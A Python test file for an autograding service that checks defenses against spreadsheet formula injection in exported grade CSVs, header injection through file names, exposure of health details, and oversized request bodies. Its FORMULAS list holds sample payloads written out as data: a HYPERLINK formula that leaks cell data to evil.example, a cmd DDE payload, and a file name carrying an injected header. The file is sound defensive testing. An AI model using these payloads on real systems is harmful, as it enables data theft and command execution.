"""Smaller holes of issue 11: spreadsheet formulas in CSV, file names in downloads, health details, body sizes.
Real Postgres and Redis (tests/service_fixtures.py)."""

from __future__ import annotations

import csv
import io
from urllib.parse import unquote

import httpx
from sqlalchemy import select

from grader.store.db import session_scope
from grader.store.models import Enrollment, Submission, User
from tests.factories import admin_headers, good_source
from tests.service_fixtures import submit

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\tTAB", "\rCR"]


def test_grades_csv_defuses_spreadsheet_formulas(client, world):
    with session_scope() as db:
        alice = db.get(User, world.alice_id)
        alice.name = FORMULAS[0]
        db.get(User, world.bob_id).name = FORMULAS[1]
        enrollments = {e.user_id: e for e in db.scalars(select(Enrollment))}
        enrollments[world.alice_id].student_number = FORMULAS[2]
        enrollments[world.bob_id].student_number = FORMULAS[3]
        alice.email = "=cmd@example.edu"
    response = client.get(f"/api/v1/assignments/{world.assignment}/grades.csv", headers=world.headers("instructor"))
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.text)))
    cells = [row[column] for row in rows for column in ("student_number", "email", "name")]
    assert "'" + FORMULAS[0] in cells and "'" + FORMULAS[1] in cells and "'=cmd@example.edu" in cells
    assert "'" + FORMULAS[2] in cells and "'" + FORMULAS[3] in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert all(row["max_score"] == rows[0]["max_score"] for row in rows)  # numbers stay numbers


def test_a_file_with_any_name_downloads(client, world):
    for number, name in enumerate(('空".py', "spatial\r\nX-Injected: 1.py", "naïve;name.py")):
        source = good_source(f"upload {number}")
        response = client.post(f"/api/v1/assignments/{world.assignment}/submissions", headers=world.headers("alice"),
                               files={"file": (name, source)})
        assert response.status_code == 202, response.text
        submission_id = response.json()["submission_id"]
        with session_scope() as db:
            stored = db.get(Submission, submission_id).filename
        download = client.get(f"/api/v1/submissions/{submission_id}/file", headers=world.headers("alice"))
        assert download.status_code == 200 and download.content == source
        disposition = download.headers["content-disposition"]
        assert "x-injected" not in download.headers
        encoded = disposition.split("filename*=UTF-8''", 1)[1]
        assert unquote(encoded) == stored
        assert disposition.split('filename="', 1)[1].split('"', 1)[0].isascii()


def test_a_stored_quote_and_non_ascii_name_downloads(client, world):
    accepted = submit(client, world)
    with session_scope() as db:
        db.get(Submission, accepted["submission_id"]).filename = '空".py'
    download = client.get(f"/api/v1/submissions/{accepted['submission_id']}/file", headers=world.headers("alice"))
    assert download.status_code == 200
    assert download.headers["content-disposition"] == "inline; filename=\"__.py\"; filename*=UTF-8''%E7%A9%BA%22.py"


def test_health_details_are_for_admins_or_by_setting(client, world, service_env):
    from tests.service_fixtures import apply_environment

    public = client.get("/readyz")
    assert public.status_code in (200, 503) and set(public.json()) == {"status"}
    assert client.get("/metrics").status_code == 401
    assert client.get("/metrics", headers=world.headers("instructor")).status_code == 403
    admin = admin_headers()
    assert "checks" in client.get("/readyz", headers=admin).json()
    assert "grader_queue_depth" in client.get("/metrics", headers=admin).text
    try:
        apply_environment({**service_env, "HEALTH_DETAILS_PUBLIC": "true"})
        assert client.get("/metrics").status_code == 200 and "checks" in client.get("/readyz").json()
    finally:
        apply_environment({**service_env, "HEALTH_DETAILS_PUBLIC": "false"})


def test_bodies_are_capped_before_parsing(client, world):
    limit = 256 * 1024
    upload = f"/api/v1/assignments/{world.assignment}/submissions"
    near = b"# padding\n" * ((limit - len(good_source())) // 10) + good_source()
    assert len(near) <= limit
    assert client.post(upload, headers=world.headers("alice"), files={"file": ("spatial.py", near)}).status_code == 202

    huge = b"x" * (limit + 200 * 1024)
    refused = client.post(upload, headers=world.headers("alice"), files={"file": ("spatial.py", huge)})
    assert refused.status_code == 413 and "at most 256 KiB" in refused.json()["detail"]

    big_json = b'{"email": "a@b.c", "password": "' + b"p" * (1024 * 1024) + b'"}'
    token = client.post("/api/v1/auth/token", content=big_json, headers={"Content-Type": "application/json"})
    assert token.status_code == 413 and "at most 1 MiB" in token.json()["detail"]

    def chunks():  # no Content-Length: counted as it arrives
        for _ in range(40):
            yield b"p" * 65536

    chunked = client.post("/api/v1/auth/token", content=chunks(), headers={"Content-Type": "application/json"})
    assert chunked.status_code == 413
    with session_scope() as db:
        assert len(db.scalars(select(Submission)).all()) == 1  # only the upload under the cap was stored


def test_a_lying_content_length_is_refused(client, world):
    request = httpx.Request("POST", "http://testserver/api/v1/auth/token", content=b"{}",
                            headers={"Content-Type": "application/json", "Content-Length": "99999999999"})
    assert client.send(request).status_code == 413


def test_every_route_that_takes_a_file_has_an_upload_cap():
    """Generated from the route table: a new upload route without an entry in api/body_limit.UPLOADS would get
    the 1 MiB cap of other requests by accident."""
    import re as regex

    from fastapi import params
    from fastapi.routing import APIRoute

    from api.body_limit import UPLOADS, body_limit
    from api.main import create_app
    from grader.settings import get_settings

    upload_paths = [regex.sub(r"\{\w+\}", "x", route.path_format) for route in create_app().routes
                    if isinstance(route, APIRoute)
                    and any(isinstance(field.field_info, params.File) for field in route.dependant.body_params)]
    assert len(upload_paths) >= 4, upload_paths
    for path in upload_paths:
        assert any(pattern.match(path) for pattern, _, _ in UPLOADS), path
    assert body_limit("/api/v1/courses/x/kits")[0] > 20 * 1024 * 1024
    assert body_limit("/api/v1/auth/token")[0] == get_settings().request_max_bytes
